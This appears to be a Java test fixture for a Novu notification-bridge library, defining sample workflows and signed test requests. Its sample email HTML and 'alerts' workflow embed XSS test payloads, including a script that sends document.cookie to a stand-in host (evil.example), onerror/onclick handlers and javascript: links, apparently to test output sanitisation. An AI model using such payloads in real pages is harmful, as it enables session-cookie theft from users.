package io.github.novu4j.framework;

import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;

import org.jspecify.annotations.Nullable;

/** The workflows and signed requests the bridge tests share. */
final class TestWorkflows {

	static final String SECRET = "test-secret-key";

	static final long NOW = 1_767_225_600_000L;

	static final Clock CLOCK = Clock.fixed(Instant.ofEpochMilli(NOW), ZoneOffset.UTC);

	record Welcome(String name, @Nullable Integer orders) {
	}

	record DigestControls(int amount, DurationUnit unit) {
	}

	record EmailControls(String subject, String body, boolean skipIfVip) {
	}

	record TextControls(String text) {
	}

	record DelayControls(int amount) {
	}

	record ThrottleControls(int threshold) {
	}

	record Score(String label, int points) {
	}

	record Named(String name) {
	}

	record MessageControls(String subject, String body) {
	}

	record BodyControls(String body) {
	}

	/** The realistic HTML email of {@code record-vectors.cjs}: a table layout, a style block, an image, links, and a script. */
	static final String EMAIL_HTML = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Your order</title>"
			+ "<style>.btn{background:#0a66c2;color:#fff}</style></head>"
			+ "<body style=\"margin:0;background:#f4f4f4\">"
			+ "<table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" style=\"background:#ffffff\">"
			+ "<tr><td align=\"center\" style=\"padding:24px;font-family:Arial,sans-serif\">"
			+ "<img src=\"https://cdn.example.com/logo.png\" alt=\"Acme\" width=\"120\" height=\"40\" onerror=\"steal()\" style=\"display:block\">"
			+ "<h1 style=\"font-size:20px\">Hello {{payload.name}}</h1>"
			+ "<p>Tom &amp; Jerry shipped your order.<script>document.location=\"https://evil.example/?c=\"+document.cookie</script></p>"
			+ "<a href=\"https://shop.example.com/orders/1\" class=\"btn\" target=\"_blank\" onclick=\"track()\">View order</a> "
			+ "<a href=\"javascript:alert(1)\">Unsubscribe</a>"
			+ "</td></tr></table></body></html>";

	private TestWorkflows() {
	}

	/** A digest, then an email reading the digest's result; the welcome workflow of FRAMEWORK-BRIDGE.md section 3. */
	static Workflow<Welcome> welcome() {
		return Workflow.builder("welcome", JsonType.withDefaults(new Welcome("Ada", null)))
			.name("Welcome")
			.tags("onboarding")
			.preferences(Preferences.create().channel(Preferences.Channel.IN_APP, false))
			.digest("digest-step", JsonType.withDefaults(new DigestControls(5, DurationUnit.MINUTES)),
					ctx -> new Outputs.Digest(ctx.controls().amount(), ctx.controls().unit()))
			.email("email-step",
					JsonType.withDefaults(new EmailControls("Hi {{payload.name}} ({{steps.digest-step.eventCount}})",
							"<p>{{steps.digest-step.eventCount}} events for {{payload.name}}</p>", false)),
					ctx -> new Outputs.Email(ctx.controls().subject(), ctx.controls().body()),
					ctx -> ctx.controls().skipIfVip() && ctx.step("digest-step", Results.Digest.class).eventCount() > 1)
			.build();
	}

	/** Every other step type, in one workflow. */
	static Workflow<Welcome> everyStep() {
		JsonType<TextControls> text = JsonType.withDefaults(new TextControls("{{payload.name}}"));
		return Workflow.builder("every-step", Welcome.class)
			.delay("delay", JsonType.withDefaults(new DelayControls(2)),
					ctx -> new Outputs.Delay(ctx.controls().amount(), DurationUnit.HOURS))
			.throttle("throttle", JsonType.withDefaults(new ThrottleControls(3)),
					ctx -> new Outputs.Throttle(1, DurationUnit.DAYS, ctx.controls().threshold(), null))
			.inApp("in-app", text, ctx -> new Outputs.InApp("Inbox", "Hello " + ctx.controls().text()))
			.sms("sms", text, ctx -> new Outputs.Sms("SMS " + ctx.controls().text()
					+ (ctx.step("in-app", Results.InApp.class).read() ? " (read)" : " (unread)")))
			.push("push", text, ctx -> new Outputs.Push("Push", ctx.controls().text() + " after "
					+ ctx.step("delay", Results.Delay.class).duration() + " ms"))
			.custom("score", JsonType.none(), Score.class,
					ctx -> new Score("gold", ctx.payload().orders() == null ? 0 : ctx.payload().orders() * 10))
			.chat("chat", text, ctx -> new Outputs.Chat(ctx.controls().text() + " has "
					+ ctx.step("score", Score.class).points() + " points, throttled="
					+ ctx.step("throttle", Results.Throttle.class).throttled()))
			.build();
	}

	/** Sanitising and provider overrides: the {@code alerts} workflow of {@code record-vectors.cjs}. */
	static Workflow<Named> alerts() {
		return Workflow.builder("alerts", JsonType.withDefaults(new Named("Ada")))
			.name("Alerts")
			.email("email", JsonType.withDefaults(new MessageControls("Tom & Jerry <3 {{payload.name}}", EMAIL_HTML)),
					ctx -> new Outputs.Email(ctx.controls().subject(), ctx.controls().body()), null,
					StepOptions.<MessageControls, Outputs.Email>create()
						.provider("sendgrid", (controls, email) -> Map.of("subject", "Override: " + email.subject(),
								"_passthrough", Map.of("headers", Map.of("X-Campaign", "alerts")))))
			.inApp("inbox", JsonType.withDefaults(new MessageControls("A & B <c>",
					"<b onclick=\"x()\">Hi</b> <a href=\"javascript:void(0)\">go</a><script>bad()</script> & more")),
					ctx -> new Outputs.InApp(ctx.controls().subject(), ctx.controls().body(), "https://cdn.example.com/a.png",
							null, null))
			.sms("sms", JsonType.withDefaults(new BodyControls("<script>alert(1)</script> Tom & Jerry <b onclick=\"x()\">")),
					ctx -> new Outputs.Sms(ctx.controls().body()))
			.email("raw-email", JsonType.withDefaults(new MessageControls("Raw & <unsanitised>",
					"<p onclick=\"x()\">raw</p><script>kept()</script>")),
					ctx -> new Outputs.Email(ctx.controls().subject(), ctx.controls().body()), null,
					StepOptions.<MessageControls, Outputs.Email>create().disableOutputSanitization())
			.chat("chat", JsonType.withDefaults(new BodyControls("<script>x</script> *Order* shipped")),
					ctx -> new Outputs.Chat(ctx.controls().body()), null,
					StepOptions.<BodyControls, Outputs.Chat>create()
						.provider("slack", (controls, chat) -> Map.of("text", chat.body(),
								"blocks", List.of(Map.of("type", "section", "text", Map.of("type", "mrkdwn", "text", chat.body()))),
								"_passthrough", Map.of("body", Map.of("unfurl_links", false)))))
			.build();
	}

	static NovuBridge bridge() {
		return NovuBridge.builder(SECRET).clock(CLOCK).workflow(welcome(), everyStep()).build();
	}

	static BridgeRequest signedGet(String action) {
		return BridgeRequest.get(Map.of("action", action),
				Map.of(NovuSignature.HEADER, NovuSignature.header(SECRET, NOW, "")));
	}

	static BridgeRequest signedPost(Map<String, String> query, String body) {
		return BridgeRequest.post(query, Map.of("Novu-Signature", NovuSignature.header(SECRET, NOW, body)), body);
	}

	static BridgeRequest execute(String workflowId, String stepId, String body) {
		return signedPost(Map.of("action", "execute", "workflowId", workflowId, "stepId", stepId), body);
	}

	static List<String> stepIds(Workflow<?> workflow) {
		return workflow.stepIds();
	}
}
